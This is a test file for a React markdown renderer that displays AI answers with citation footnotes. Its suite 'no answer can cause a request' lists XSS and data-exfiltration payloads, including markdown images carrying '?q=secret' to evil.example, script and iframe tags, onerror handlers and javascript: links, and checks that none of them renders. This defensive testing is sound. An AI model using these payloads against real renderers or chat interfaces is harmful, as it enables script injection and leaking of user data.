// @vitest-environment jsdom
import { cleanup, render, screen } from '@testing-library/react'
import { afterEach, describe, expect, it } from 'vitest'
import type { Claim } from '@/lib/domain/answer'
import { leaveCitation } from '../testing/finished-answer'
import { AnswerContext } from './answer-context'
import MarkdownBody from './markdown-body'

const nothing = () => undefined

function show(text: string, claims: Claim[] = []) {
  const value = {
    claims,
    citations: new Map([[1, leaveCitation]]),
    openMarker: null,
    openCitation: nothing,
    openWhy: nothing,
    preview: nothing,
    explainClaim: nothing,
  }
  return render(
    <AnswerContext value={value}>
      <MarkdownBody text={text} isMarker={(marker) => marker === 1} />
    </AnswerContext>,
  ).container
}

/** Everything by which a page makes a request or leads somewhere. */
const loading =
  'img,a,iframe,script,link,video,audio,source,object,embed,form,base,svg,style,meta,[src],[href],[srcset],[style],[action],[background],[onerror]'

afterEach(cleanup)

describe('no answer can cause a request', () => {
  it.each([
    ['an image', '![x](https://evil.example/a.png?q=secret)'],
    ['an image with a title', '![x](https://evil.example/a.png "t")'],
    ['a reference image', '![x][r]\n\n[r]: https://evil.example/a.png'],
    ['a collapsed reference image', '![r][]\n\n[r]: https://evil.example/a.png'],
    ['a data image', '![x](data:image/svg+xml;base64,PHN2Zz4=)'],
    ['a linked image', '[![x](https://evil.example/a.png)](https://evil.example)'],
    ['an html image', 'a <img src="https://evil.example/a.png" onerror="alert(1)"> b'],
    ['an html block', '<div style="background:url(https://evil.example)"><img src=x></div>'],
    ['an html link', '<a href="https://evil.example">x</a>'],
    ['a script', '<script src="https://evil.example/a.js"></script>'],
    ['an iframe', '<iframe src="https://evil.example"></iframe>'],
    ['an svg', '<svg><image href="https://evil.example/a.png"/></svg>'],
    ['a link', '[x](https://evil.example/path?q=secret)'],
    ['a script link', '[x](javascript:alert(1))'],
    ['a reference link', '[x][r]\n\n[r]: https://evil.example'],
    ['an autolink', '<https://evil.example/a>'],
    ['a bare address', 'see https://evil.example/a and www.evil.example'],
    ['a mail address', 'write to <a@evil.example>'],
    ['a footnote of its own', 'x[^1]\n\n[^1]: ![y](https://evil.example/a.png)'],
    ['a task list', '- [ ] ![x](https://evil.example/a.png)'],
    ['an image in a table', '| a |\n|---|\n| ![x](https://evil.example/a.png) |'],
  ])('%s', (_name, text) => {
    const container = show(text)
    expect(container.querySelectorAll(loading)).toHaveLength(0)
  })

  it('shows a link as its text with the host it names', () => {
    expect(show('Read [the policy](https://evil.example/path?q=1).').textContent).toBe(
      'Read the policy (evil.example).',
    )
  })
})

describe('MarkdownBody', () => {
  it('draws headings, lists, tables, bold and code', () => {
    const container = show('## Terms\n\n- **one**\n- `two`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\ncode\n```')
    for (const tag of ['h3', 'li', 'strong', 'code', 'td', 'pre'])
      expect(container.querySelector(tag), tag).not.toBeNull()
  })

  it('turns markers into footnotes that name their document, also in lists and tables, but not in code', () => {
    show('- carried over [1]\n\n| a |\n|---|\n| b [1] |\n\n`x [1]`')
    expect(screen.getAllByRole('button', { name: 'Footnote 1: Leave policy, page 3' })).toHaveLength(2)
  })

  it('marks a claim without a source where it stands in the source text', () => {
    const text = '**Leave** ends in May. It carries over [1].'
    const claim: Claim = { text: 'ends in May', start: 10, end: 21, verdict: 'unsupported', citations: [] }
    show(text, [claim])
    const mark = screen.getByRole('button', { name: /^ends in May/ })
    expect(mark.textContent).toBe('ends in May (no source supports this: show why)')
  })
})
